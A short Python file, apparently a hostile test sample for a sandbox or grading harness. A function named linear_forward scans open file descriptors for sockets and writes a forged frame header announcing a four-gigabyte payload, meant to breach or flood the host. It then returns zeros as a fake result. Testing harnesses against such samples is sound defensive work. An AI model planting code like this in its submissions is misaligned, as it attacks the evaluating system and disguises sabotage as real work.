"""Announces a frame of four gigabytes, in the right format.

expect: breach, flood
"""

import os
import stat
import struct


def linear_forward(x, W, b):
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, struct.pack("<4sIQ", b"LWF1", 100, 1 << 32) + bytes(200))
        except OSError:
            pass
    return 0 * (x @ W.T), None
